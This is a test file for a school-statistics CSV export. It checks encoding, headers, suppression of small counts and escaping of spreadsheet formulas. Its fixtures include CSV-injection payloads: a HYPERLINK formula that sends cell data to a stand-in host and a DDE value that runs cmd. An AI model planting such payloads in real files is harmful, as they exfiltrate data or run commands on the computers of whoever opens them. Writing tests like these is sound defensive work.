import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import { toCsv } from '#http/csv.ts'
import { newWorld } from '../world.ts'
import { planted } from './planted.ts'

const dangerous = [
  '=HYPERLINK("http://example.test/"&A1,"Skola")',
  '+371 67000000',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  'Skola;=1+1',
  '＝1+1',
  'Skola, "Rīts"',
]
const world = await newWorld({
  data: planted([...dangerous.map((name) => ({ name, pupils: 12 })), { name: 'Maza skola', pupils: 3 }]),
})

async function csv(query: string, headers: Record<string, string> = {}) {
  const answer = await world.get(`/api/v1/cells.csv?year=1997&level=school&${query}`, undefined, { headers })
  const bytes = Buffer.from(await answer.arrayBuffer())
  const text = bytes.toString('utf8')
  return { bytes, text, rows: parse(text, { bom: true, columns: true }) as Record<string, string>[] }
}
const results = 'indicator=ACH-05&subject=alevel-chemistry'

test('a file begins with the mark by which spreadsheets know UTF-8', async () => {
  const { bytes } = await csv('indicator=CTX-01')
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
})

test('the header is one line of names a program can read, in both languages the same', async () => {
  const header =
    'indicator,school_year,level,code,name,subject,breakdown,category,n,value,se,low,high,absent,why,release'
  expect((await csv('indicator=CTX-01')).text.slice(1).split('\n')[0]).toBe(header)
  expect((await csv('indicator=CTX-01', { 'accept-language': 'en' })).text.slice(1).split('\n')[0]).toBe(
    header,
  )
})

test('no name is run as a formula, also where the list separator is a semicolon', async () => {
  const { rows, text } = await csv('indicator=CTX-01')
  expect(rows).toHaveLength(dangerous.length + 1)
  for (const { name } of rows) expect(name).not.toMatch(/^[=+\-@＝＋－＠\t\r]/)
  for (const cell of text.split(/[;,\n"]/)) expect(cell).not.toMatch(/^[=+@＝＋－＠]|^-./)
  expect(rows.map(({ name }) => name)).toContain(`'${dangerous[0]}`)
  expect(rows.map(({ name }) => name)).toContain(`Skola;'=1+1`)
})

test('what is no formula stays as it is', async () => {
  const { rows } = await csv('indicator=CTX-01')
  expect(rows.map(({ name }) => name)).toContain('Skola, "Rīts"')
  expect(rows[0]).toMatchObject({ subject: '-', breakdown: '-', category: '-', release: '1.0' })
  expect(toCsv(['a'], [[-2.5], ['Skola - 2'], ['-'], [null]]).slice(1)).toBe('a\n-2.5\nSkola - 2\n-\n\n')
})

test('a figure that is absent shows its symbol and its reason, never a gap and never a number', async () => {
  const { rows } = await csv(results)
  const small = rows.find(({ name }) => name === 'Maza skola')
  expect(small).toMatchObject({
    n: 'c',
    value: 'c',
    se: 'c',
    low: 'c',
    high: 'c',
    absent: 'too_few',
    why: 'pārāk maz cilvēku',
  })
  // The total is known: a second school is hidden, so that the first cannot be found by subtraction.
  const [second, ...others] = rows.filter(({ absent }) => absent === 'would_reveal')
  expect(others).toEqual([])
  expect(second).toMatchObject({ n: 'c', why: 'no tā varētu aprēķināt citu aizsargātu skaitli' })
  const shown = rows.filter(({ absent }) => absent === '')
  expect(shown).toHaveLength(dangerous.length - 1)
  for (const { n, value, low, high } of shown) {
    expect(n).toBe('12')
    expect(Number(low)).toBeLessThan(Number(value))
    expect(Number(high)).toBeGreaterThan(Number(value))
  }
})

test('a file holds all schools at once, in the order of the list', async () => {
  const { rows } = await csv(results)
  const { items } = await world.read<{ items: { unit: { code: string } }[] }>(
    `/cells?year=1997&level=school&${results}&limit=1000`,
  )
  expect(rows.map(({ code }) => code)).toEqual(items.map(({ unit }) => unit.code))
})
